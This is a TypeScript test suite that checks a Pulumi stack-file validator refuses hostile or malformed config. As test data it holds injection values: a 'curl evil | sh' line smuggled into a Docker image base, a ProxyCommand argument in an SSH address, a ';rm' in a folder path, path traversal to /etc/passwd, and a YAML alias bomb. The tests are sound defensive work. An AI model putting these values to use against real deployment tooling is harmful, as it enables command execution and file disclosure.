// Stack files as a hostile or careless user writes them (issue 10): each case failed before its
// fix, either passing `check` and failing at `up`, or failing with a message that leaked a key or
// said nothing useful.
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { afterAll, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { resolveStack } from "../../config/resolve";
import { loadStackFile } from "../../config/stack-file";
import { problemsOf } from "./support";
import { manifestJson } from "../../plan/manifest";
import { planStackFile } from "../../plan/plan";

const root = path.resolve(__dirname, "../..");
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sealbench-adversarial-"));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQ\n-----END OPENSSH PRIVATE KEY-----\n";
const KEY_BITS = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ";
const HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostKeyOfTheBench";

/** A valid ssh bench host; cases break one field. */
function host(overrides: Record<string, unknown> = {}): Record<string, unknown> {
    return {
        name: "bench",
        target: { kind: "ssh", address: "10.10.19.17", hostKey: HOST_KEY },
        facts: { cpus: 16, memoryGb: 256, bootDisk: "/dev/sda" },
        storage: [{ kind: "block", device: "/dev/md1", mountPoint: "/mnt/storage", sizeGb: 22000 }],
        slots: [{ phase: "p2", count: 2 }],
        ...overrides,
    };
}

let n = 0;
/** A stack file with the secret as Pulumi writes it; `config` adds or replaces sealbench: keys. */
function stackFile(config: Record<string, unknown>, text?: string): string {
    const file = path.join(dir, `Pulumi.case${++n}.yaml`);
    const body = { "sealbench:sshPrivateKey": { secure: "v1:AAAAAAAAAAAAAAAAAAAAAA==" }, ...Object.fromEntries(Object.entries(config).map(([k, v]) => [`sealbench:${k}`, v])) };
    fs.writeFileSync(file, text ?? stringify({ config: body }));
    return file;
}


function check(file: string): { status: number | null; out: string } {
    const r = spawnSync(path.join(root, "node_modules/.bin/tsx"), ["bin/check.ts", "--config", file], { cwd: root, encoding: "utf8" });
    return { status: r.status, out: r.stdout + r.stderr };
}

describe("private keys are refused and never echoed (items 2 and 9)", () => {
    it("a key pasted into target.privateKey: refused as not a key name, and shown nowhere (check, plan, manifest)", async () => {
        const file = stackFile({ hosts: [host({ target: { kind: "ssh", address: "10.10.19.17", hostKey: HOST_KEY, privateKey: KEY } })] });
        const r = check(file);
        expect(r.status).toBe(2);
        expect(r.out).toContain('hosts[0].target.privateKey [private key text, not shown]: expected the name of a secret config key, like sshPrivateKey');
        expect(r.out).not.toContain("PRIVATE KEY");
        expect(r.out).not.toContain(KEY_BITS);
        const plan = await planStackFile(file);
        expect(plan.exitCode).toBe(2);
        for (const text of [plan.text, manifestJson(plan.manifest)]) {
            expect(text).not.toContain("PRIVATE KEY");
            expect(text).not.toContain(KEY_BITS);
        }
    });

    it.each<[string, Record<string, unknown>, string]>([
        ["hostKey", { hosts: [host({ target: { kind: "ssh", address: "10.10.19.17", hostKey: KEY } })] }, "hosts[0].target.hostKey"],
        ["bench.rustLog", { hosts: [host({ bench: { rustLog: KEY } })] }, "hosts[0].bench.rustLog"],
        ["mount options", { hosts: [host({ storage: [{ kind: "block", device: "/dev/md1", mountPoint: "/mnt/storage", options: KEY }] })] }, "hosts[0].storage[0].options"],
        ["a value under defaults", { defaults: { bench: { rustLog: KEY } }, hosts: [host({ bench: { rustLog: "info" } })] }, "defaults.bench.rustLog"],
        [
            "sshPublicKey",
            {
                hosts: [
                    host({
                        target: { kind: "oci", compartmentId: "ocid1.compartment", availabilityDomain: "AD-1", imageId: "ocid1.image", subnetId: "ocid1.subnet", sshPublicKey: KEY, hostKey: HOST_KEY },
                    }),
                ],
            },
            "hosts[0].target.sshPublicKey",
        ],
    ])("a key in %s: refused by check with its path, and the manifest holds no key", async (_case, config, at) => {
        const file = stackFile(config);
        const found = problemsOf(file);
        expect(found.some((p) => p.includes(` ${at} [private key text, not shown]: holds private-key text; a key belongs only in the secret a host's privateKey names`)), found.join("\n")).toBe(true);
        expect(found.join("\n")).not.toContain(KEY_BITS);
        const plan = await planStackFile(file);
        expect(plan.exitCode).toBe(2);
        expect(manifestJson(plan.manifest)).not.toContain(KEY_BITS);
        expect(manifestJson(plan.manifest)).not.toContain("PRIVATE KEY");
    });
});

describe("values that pass check and fail at up (items 5, 10, 14, 15, 16)", () => {
    const oci = (blockVolumes: unknown[]) => ({ kind: "oci", compartmentId: "c", availabilityDomain: "AD-1", imageId: "i", subnetId: "s", sshPublicKey: HOST_KEY, hostKey: HOST_KEY, blockVolumes });
    it.each<[string, Record<string, unknown>, string]>([
        ["a space in a mount point (item 5)", host({ storage: [{ kind: "block", device: "/dev/md1", mountPoint: "/mnt/my storage" }] }), 'hosts[0].storage[0].mountPoint "/mnt/my storage": expected a mount point without spaces or tabs'],
        ["a space in mount options (item 5)", host({ storage: [{ kind: "nfs", source: "10.0.0.1:/sealer", mountPoint: "/mnt/storage", options: "rw, hard" }] }), 'hosts[0].storage[0].options "rw, hard": expected mount options like defaults,noatime, without spaces'],
        ["allowBootDisk on an ssh host (item 10)", host({ allowBootDisk: true }), "hosts[0].allowBootDisk true: applies to local targets only"],
        ["/etc as the sealer root (item 10)", host({ sealer: { root: "/etc" } }), 'hosts[0].sealer.root "/etc": is a system folder'],
        ["/usr/local as the work folder (item 10)", host({ bench: { workDir: "/usr/local" } }), 'hosts[0].bench.workDir "/usr/local": is a system folder'],
        ["/ as the parameter link (items 10, 14)", host({ parameters: { link: "/" } }), 'hosts[0].parameters.link "/": is a system folder'],
        ["the link a parent of the folder (item 14)", host({ parameters: { link: "/mnt/storage" } }), 'hosts[0].parameters.link "/mnt/storage": is the parameter folder /mnt/storage/filecoin-proof-parameters or a folder above it'],
        ["a file:// gateway (item 14)", host({ parameters: { gateway: "file:///etc/" } }), 'hosts[0].parameters.gateway "file:///etc/": expected an http(s) URL prefix'],
        ["an ftp:// gateway (item 14)", host({ parameters: { gateway: "ftp://example.org/ipfs/" } }), 'hosts[0].parameters.gateway "ftp://example.org/ipfs/": expected an http(s) URL prefix'],
        ["a device path with .. (item 14)", host({ storage: [{ kind: "block", device: "/dev/../etc/passwd", mountPoint: "/mnt/storage" }] }), 'hosts[0].storage[0].device "/dev/../etc/passwd": expected a device path like /dev/md1, without . or ..'],
        ["a host key that is not one (item 14)", host({ target: { kind: "ssh", address: "10.10.19.17", hostKey: "not a key" } }), 'hosts[0].target.hostKey "not a key": expected an OpenSSH public key'],
        [
            "an ssh-rsa host key, which upstream's command provider offers only as SHA-1 ssh-rsa (issue 19)",
            host({ target: { kind: "ssh", address: "10.10.19.17", hostKey: "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC4auYM" } }),
            'hosts[0].target.hostKey "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC4auYM": expected an Ed25519 or ECDSA host key (for an RSA pin @pulumi/command 1.2.1 offers only SHA-1 "ssh-rsa" signatures, which OpenSSH 8.8 and later refuse, so no step would connect); pin the host\'s Ed25519 key: ssh-keyscan -t ed25519 10.10.19.17',
        ],
        ["an ssh-dss host key (issue 19)", host({ target: { kind: "ssh", address: "10.10.19.17", hostKey: "ssh-dss AAAAB3NzaC1kc3M" } }), 'hosts[0].target.hostKey "ssh-dss AAAAB3NzaC1kc3M": expected an Ed25519 or ECDSA host key (OpenSSH has refused DSA host keys by default since 7.0, so no step would connect)'],
        ["an OCI instance's ssh-rsa host key (issue 19)", host({ storage: [], target: { ...oci([]), hostKey: "ssh-rsa AAAAB3NzaC1yc2E" } }), "hosts[0].target.hostKey \"ssh-rsa AAAAB3NzaC1yc2E\": expected an Ed25519 or ECDSA host key (for an RSA pin @pulumi/command 1.2.1 offers only SHA-1 \"ssh-rsa\" signatures, which OpenSSH 8.8 and later refuse, so no step would connect); pin the host's Ed25519 key: ssh-keyscan -t ed25519 <the instance's public IP>"],
        ["an address with spaces (item 14)", host({ target: { kind: "ssh", address: "10.10.19.17 -oProxyCommand=x", hostKey: HOST_KEY } }), 'hosts[0].target.address "10.10.19.17 -oProxyCommand=x": expected an IP address or DNS name'],
        ["benchyDir equal to a slot's work folder (item 14)", host({ bench: { benchyDir: "/mnt/storage/bench/p2-1" } }), "hosts[0].bench.benchyDir \"/mnt/storage/bench/p2-1\": overlaps slot p2-1's work folder /mnt/storage/bench/p2-1"],
        ["duplicate block-volume names (item 14)", host({ storage: [], target: oci([{ name: "data", sizeGb: 100, mountPoint: "/mnt/a" }, { name: "data", sizeGb: 100, mountPoint: "/mnt/b" }]) }), 'hosts[0].target.blockVolumes[1].name "data": already used by blockVolumes[0]'],
        ["a missing manifest (item 14)", host({ slots: [{ phase: "p34", count: 1 }], parameters: { manifest: "no-such-parameters.json" } }), 'hosts[0].parameters.manifest "no-such-parameters.json": parameters.manifest no-such-parameters.json: cannot read'],
        ["a manifest outside the project (item 16)", host({ slots: [{ phase: "p34", count: 1 }], parameters: { manifest: "../../../../etc/passwd" } }), 'hosts[0].parameters.manifest "../../../../etc/passwd": expected a file inside the project, like parameters.json (or an absolute path)'],
        ["a newline in the image base (item 15)", host({ image: { base: "debian:bookworm\nRUN curl evil | sh" } }), "hosts[0].image.base \"debian:bookworm\\nRUN curl evil | sh\": has U+000A LINE FEED at character 16; values are one line"],
    ])("%s", (_case, h, expected) => {
        const found = problemsOf(stackFile({ hosts: [h] }));
        expect(found.some((p) => p.includes(expected)), found.join("\n")).toBe(true);
    });

    it("invalid defaults are refused even when every host overrides them (item 14)", () => {
        const found = problemsOf(stackFile({ defaults: { sectorSize: "32G", bench: { rustLgo: "x" } }, hosts: [host({ sectorSize: "32GiB" })] }));
        expect(found).toEqual(expect.arrayContaining([expect.stringMatching(/ defaults\.sectorSize "32G": expected one of "2KiB"/), expect.stringMatching(/ defaults\.bench\.rustLgo: unknown key; did you mean rustLog\? Expected one of: workDir, benchyDir, privileged, rustLog, benchy$/)]));
    });

    it("a __proto__ key is named, not dropped, and sets nothing (item 14)", () => {
        const file = stackFile({}, `config:\n  sealbench:sshPrivateKey:\n    secure: v1:AAAA\n  sealbench:defaults:\n    __proto__: {allowBootDisk: true}\n  sealbench:hosts:\n    - ${JSON.stringify(host())}\n`);
        const found = problemsOf(file);
        expect(found).toEqual([expect.stringMatching(/^Pulumi\.case\d+\.yaml:5:16 defaults\.__proto__: is not a config key \(JavaScript would take it as the object's prototype\); remove it$/)]);
    });

    it("a manifest named absolutely is only parsed: plan shows none of its bytes (item 16)", async () => {
        const secret = path.join(dir, "not-json.txt");
        fs.writeFileSync(secret, "root:x:0:0:root:/root:/bin/bash\n");
        const plan = await planStackFile(stackFile({ hosts: [host({ slots: [{ phase: "p34", count: 1 }], parameters: { manifest: secret } })] }));
        expect(plan.exitCode).toBe(2);
        expect(plan.text).toContain(`${secret}: not JSON`);
        expect(plan.text).not.toContain("root:x");
    });
});

describe("valid YAML the check used to refuse (item 6)", () => {
    it("resolves anchors, aliases and merge keys", () => {
        const text = `config:
  sealbench:sshPrivateKey:
    secure: v1:AAAAAAAAAAAAAAAAAAAAAA==
  sealbench:hosts:
    - &bench
      name: a
      target: &ssh {kind: ssh, address: 10.10.19.17, hostKey: "${HOST_KEY}"}
      facts: &facts {cpus: 16, memoryGb: 256, numaNodes: &nodes ["0-7", "8-15"]}
      storage: [{kind: block, device: /dev/md1, mountPoint: /mnt/storage}]
      slots: [{phase: p2, count: 2}]
    - <<: *bench
      name: b
      target: {<<: *ssh, address: 10.10.19.18}
      facts: {<<: *facts, numaNodes: *nodes}
`;
        const { stack } = loadStackFile(stackFile({}, text));
        expect(stack.hosts.map((h) => [h.name, h.target.kind === "ssh" && h.target.address, h.facts.numaNodes.length, h.slots.length])).toEqual([
            ["a", "10.10.19.17", 2, 2],
            ["b", "10.10.19.18", 2, 2],
        ]);
    });

    it("refuses an alias bomb instead of expanding it", () => {
        const levels = Array.from({ length: 12 }, (_, i) => `  l${i + 1}: &l${i + 1} [${Array(10).fill(`*l${i}`).join(", ")}]`);
        const text = `x0: &l0 [a]\nbomb:\n${levels.join("\n")}\nconfig:\n  sealbench:hosts: *l12\n`;
        const found = problemsOf(stackFile({}, text));
        expect(found).toEqual([expect.stringMatching(/^Pulumi\.case\d+\.yaml:\d+:\d+ config: YAML: Excessive alias count indicates a resource exhaustion attack$/)]);
    });
});

describe("messages that say what is expected (item 17)", () => {
    it.each<[string, string, string]>([
        ["cpus", "      facts: {cpus: lots, memoryGb: 256}", 'hosts[0].facts.cpus "lots": expected a whole number 1–4096 or "auto"'],
        ["memoryGb", "      facts: {cpus: 16, memoryGb: [1]}", 'hosts[0].facts.memoryGb [1]: expected a number or "auto"'],
        ["reservedCpus", "      facts: {cpus: 16, memoryGb: 256}\n      reservedCpus: [0]", "hosts[0].reservedCpus [0]: expected a whole number ≥ 0 or a string"],
        ["a secure: value", "      facts: {cpus: {secure: v1:AAAA}, memoryGb: 256}", 'hosts[0].facts.cpus "[secret]": is a secure: value; only secret keys (named by a host\'s privateKey) may be secure. Write it in plain text: expected a whole number 1–4096 or "auto"'],
        [".inf", "      facts: {cpus: 16, memoryGb: .inf}", 'hosts[0].facts.memoryGb .inf: expected a number or "auto"'],
        ["a YAML tag", "      facts: {cpus: !!binary aGVsbG8=, memoryGb: 256}", "hosts[0].facts.cpus"],
        ["a misspelled key", "      facts: {cpus: 16, memoryGb: 256, bootDsik: /dev/sda}", "hosts[0].facts.bootDsik: unknown key; did you mean bootDisk? Expected one of: cpus, memoryGb, bootDisk, numaNodes, linkGbps"],
    ])("%s", (_case, facts, expected) => {
        const text = `config:\n  sealbench:sshPrivateKey:\n    secure: v1:AAAA\n  sealbench:hosts:\n    - name: bench\n      target: {kind: ssh, address: 10.10.19.17, hostKey: "${HOST_KEY}"}\n${facts}\n      storage: [{kind: block, device: /dev/md1, mountPoint: /mnt/storage}]\n`;
        const found = problemsOf(stackFile({}, text));
        expect(found.some((p) => p.includes(expected) && !p.includes("matches none of the allowed forms")), found.join("\n")).toBe(true);
    });

    it("a misspelled namespace is named at its line, with the key it meant", () => {
        const found = problemsOf(stackFile({}, `config:\n  sealbnech:hosts: []\n  sealbench:host: []\n`));
        expect(found).toEqual([
            "Pulumi.case" + n + ".yaml:2:3 sealbnech:hosts: unknown config namespace; did you mean sealbench:hosts?",
            "Pulumi.case" + n + ".yaml:2:3 hosts: is required (a list)",
            "Pulumi.case" + n + ".yaml:3:19 host: unknown key; did you mean hosts? Expected one of: root, defaults, hosts, groups, or a secret named by a host's privateKey",
        ]);
    });

    it("CR-only line endings and non-UTF-8 text are named as such", () => {
        expect(problemsOf(stackFile({}, "config:\r  sealbench:hosts: []\r"))).toEqual([expect.stringMatching(/:1:8 config: ends lines with CR only \(U\+000D, old Mac style\)/)]);
        const latin1 = path.join(dir, "Pulumi.latin1.yaml");
        fs.writeFileSync(latin1, Buffer.concat([Buffer.from("config:\n  sealbench:hosts:\n    - name: caf"), Buffer.from([0xe9]), Buffer.from("\n")]));
        expect(problemsOf(latin1)).toEqual(["Pulumi.latin1.yaml:3:16 config: is not UTF-8 text; save the file as UTF-8"]);
    });

    it.each([
        ["\u0085", "U+0085 NEXT LINE (NEL)"],
        ["\u00ad", "U+00AD SOFT HYPHEN"],
        ["\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"],
    ])("names %j by its code point", (ch, name) => {
        const found = problemsOf(stackFile({ hosts: [host({ bench: { rustLog: `in${ch}fo` } })] }));
        expect(found.some((p) => p.includes(`hosts[0].bench.rustLog "in${ch}fo": has ${name} at character 3`)), found.join("\n")).toBe(true);
    });

    it("deep nesting is refused with a position, not a stack overflow", () => {
        const deep = `config:\n  sealbench:hosts: ${"[".repeat(5000)}${"]".repeat(5000)}\n`;
        expect(problemsOf(stackFile({}, deep))).toEqual([expect.stringMatching(/^Pulumi\.case\d+\.yaml:\d+:\d+ config: nests deeper than 64 levels/)]);
        const raw: Record<string, unknown> = { hosts: [] };
        let at = raw.hosts as unknown[];
        for (let i = 0; i < 20000; i++) at.push((at = []));
        expect(() => resolveStack(raw)).toThrow("nests deeper than 64 levels");
    });

    it("a non-mapping defaults is 'expected a mapping', not 'a record'", () => {
        expect(problemsOf(stackFile({ defaults: [1], hosts: [host()] }))).toEqual([expect.stringMatching(/ defaults \[1\]: expected a mapping$/)]);
    });
});

describe("issue 20: folders root would take over, unit paths, the stack's root, and messages that said nothing", () => {
    /** A production host of group 1 (a worker, the sealer tree); cases break one field. */
    const worker = (overrides: Record<string, unknown> = {}, workerOverrides: Record<string, unknown> = {}) =>
        host({
            slots: [],
            user: { name: "fil", uid: 2000, gid: 2000 },
            sealer: { root: "/sealer", storageNodes: ["10.10.13.22"] },
            worker: { groups: [1], workers: [{ phases: ["PreCommitPhase1"] }], ...workerOverrides },
            ...overrides,
        });
    const groups = [{ id: 1, schedulerUrl: "http://10.10.19.17:3456" }];
    it.each<[string, Record<string, unknown>, string]>([
        ["/var/lib/docker as the sealer root (item 4)", worker({ sealer: { root: "/var/lib/docker" } }), 'hosts[0].sealer.root "/var/lib/docker": is a system folder; the host steps would create, re-own or replace it as root'],
        ["/root/.ssh exported (item 4)", worker({ nfsServer: { export: "/root/.ssh", clients: ["10.10.0.0/16"] } }), 'hosts[0].nfsServer.export "/root/.ssh": is a system folder; exporting it would hand the system\'s files to every client'],
        ["a user's .ssh as the sealer root (item 4)", worker({ sealer: { root: "/home/fil/.ssh" } }), 'hosts[0].sealer.root "/home/fil/.ssh": is a system folder'],
        ["a space in worker.dir (item 5)", worker({}, { dir: "/opt/force remote" }), 'hosts[0].worker.dir "/opt/force remote": has " " (U+0020) at character 11: the worker\'s systemd unit names this folder, and ExecStart= would split the path there'],
        ["%u in worker.dir (item 5)", worker({}, { dir: "/opt/%u/bin" }), 'hosts[0].worker.dir "/opt/%u/bin": has "%" (U+0025) at character 6: the worker\'s systemd unit names this folder, and systemd would expand it as a specifier (%u, %H), so the binary checked would not be the one run'],
        ["a quote in the sealer root (item 5)", worker({ sealer: { root: '/sealer"x' } }), 'hosts[0].sealer.root "/sealer\\"x": has "\\"" (U+0022) at character 8: the worker\'s systemd unit names this folder, and systemd takes it as quoting'],
        ["$ in worker.dir (item 5)", worker({}, { dir: "/opt/$HOME" }), "and ExecStart= would expand it as a variable"],
        ["; in the sealer root (item 5)", worker({ sealer: { root: "/sealer;rm" } }), "and ExecStart= would run what follows as a second command"],
        ["a backslash in worker.dir (item 5)", worker({}, { dir: "/opt/a\\b" }), "and systemd takes it as an escape"],
        ["/etc as worker.dir (item 5)", worker({}, { dir: "/etc" }), 'hosts[0].worker.dir "/etc": is a system folder; the worker step writes config.toml there as root'],
        ["a private key named after a stack key (item 8)", host({ target: { kind: "ssh", address: "10.10.19.17", hostKey: HOST_KEY, privateKey: "hosts" } }), 'hosts[0].target.privateKey "hosts": names one of the stack\'s own keys (root, defaults, hosts, groups); the private key needs a secret key of its own, like sshPrivateKey'],
        ["credentials in worker.schedulerUrl (LOW)", worker({}, { schedulerUrl: "http://sched:s3cret@10.10.19.17:3456" }), 'hosts[0].worker.schedulerUrl "http://[credentials not shown]@10.10.19.17:3456": holds a user name or password (user:secret@): the URL is shown in the plan, the pull-request comment and the preflight\'s log, and written into config.toml'],
        ["an upper-case user name (item 8)", worker({ user: { name: "Fil" } }), 'hosts[0].user.name "Fil": expected a user name of lowercase letters, digits, _ and -, starting with a letter or _ (useradd\'s rule), like fil'],
    ])("%s", (_case, h, expected) => {
        const found = problemsOf(stackFile({ groups, hosts: [h] }));
        expect(found.some((p) => p.includes(expected)), found.join("\n")).toBe(true);
        // Never the schema's or zod's own words.
        expect(found.join("\n")).not.toMatch(/must match pattern|Invalid string|Invalid input/);
    });

    it.each<[string, string, string]>([
        ["/", "/", 'root "/": resolves to /: the stack\'s root must be a folder at least two levels below /'],
        ["one with ..", "/srv/../opt", 'root "/srv/../opt": resolves to /opt: the stack\'s root must be a folder at least two levels below /'],
        ["a system folder", "/usr/local", 'root "/usr/local": resolves to /usr/local, a system folder'],
        ["a space", "/srv/my stacks", 'root "/srv/my stacks": resolves to /srv/my stacks, which has " " (U+0020) at character 8'],
    ])("the stack's root %s: refused by check, as up would (item 8)", (_case, root, expected) => {
        const found = problemsOf(stackFile({ root, hosts: [host()] }));
        expect(found.some((p) => p.includes(expected)), found.join("\n")).toBe(true);
    });

    it("the default secret in a stack without ssh or oci hosts: said so, not 'did you mean sshPrivateKey?' (item 8)", () => {
        const found = problemsOf(stackFile({ hosts: [{ name: "dev", target: { kind: "local" }, facts: { cpus: 4, memoryGb: 8 }, allowBootDisk: true, storage: [{ kind: "existing", mountPoint: "/mnt/storage" }] }] }));
        expect(found).toEqual([expect.stringMatching(/^Pulumi\.case\d+\.yaml:\d+:\d+ sshPrivateKey: is a private key no host uses: only ssh and oci targets take one .* Remove it \(pulumi config rm sealbench:sshPrivateKey\), or give a host an ssh or oci target$/)]);
    });

    it("credentials in a group's schedulerUrl are refused there (LOW)", () => {
        const found = problemsOf(stackFile({ groups: [{ id: 1, schedulerUrl: "http://sched:s3cret@10.10.19.17:3456" }], hosts: [worker()] }));
        expect(found.some((p) => p.includes('groups[0].schedulerUrl "http://[credentials not shown]@10.10.19.17:3456": holds a user name or password')), found.join("\n")).toBe(true);
        expect(found.join("\n")).not.toContain("s3cret");
    });

    it("zod's own bounds and words stay out of the messages (item 8)", () => {
        const huge = problemsOf(stackFile({ hosts: [host({ reservedCpus: -1e300 })] }));
        expect(huge.filter((p) => p.includes("reservedCpus"))).toEqual([expect.stringMatching(/ hosts\[0\]\.reservedCpus -1e\+300: expected ≥ 0$/)]);
        expect(problemsOf(stackFile({ hosts: [host({ sealer: true })] }))).toEqual([expect.stringMatching(/:\d+:\d+ hosts\[0\]\.sealer true: expected false or a mapping$/)]);
        expect(problemsOf(stackFile({ hosts: [host({ reservedCpus: 16, slots: [{ phase: "p2", count: 1 }] })] })).join("\n")).not.toContain("1 slots");
    });

    it("a second YAML document: said in the check's words, not the parser's (item 8)", () => {
        const text = `config:\n  sealbench:sshPrivateKey:\n    secure: v1:AAAA\n  sealbench:hosts:\n    - ${JSON.stringify(host())}\n---\nconfig: {}\n`;
        expect(problemsOf(stackFile({}, text))).toEqual([expect.stringMatching(/:6:1 .*YAML: a second document starts here \(a --- line\); a stack file is one document\. Remove the --- and merge what follows into the config above it$/)]);
    });

    it("no_root_squash to every address (0.0.0.0/0, or the two /1 halves) is refused by check (item 4: the nfs-root-squash-scoped rule)", () => {
        for (const clients of [["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"]]) {
            const file = stackFile({ groups, hosts: [worker({ nfsServer: { clients, rootSquash: false } })] });
            const r = check(file);
            expect({ clients, status: r.status }).toEqual({ clients, status: 1 });
            expect(r.out).toContain("nfs-root-squash-scoped");
        }
    });
});
